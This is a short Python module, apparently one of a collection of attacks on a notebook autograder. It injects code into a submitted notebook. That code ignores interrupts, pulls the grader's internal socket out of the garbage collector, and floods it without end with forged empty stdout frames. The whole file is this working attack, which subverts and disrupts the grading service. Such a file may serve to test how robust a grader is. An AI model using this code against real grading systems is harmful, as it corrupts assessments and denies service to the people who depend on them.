"""Ignores interrupts and floods the grader with small outputs, so that there is always one to read."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
import gc, json, os, signal, struct
signal.signal(signal.SIGINT, signal.SIG_IGN)
job = next(o for o in gc.get_objects() if type(o).__name__ == '_Work').job
head = json.dumps([{'output': {'output_type': 'stream', 'name': 'stdout', 'text': ''}}, []]).encode()
frames = (struct.pack('<I', len(head)) + head) * 1000
while True:
    job.sendall(frames)
""",
    )
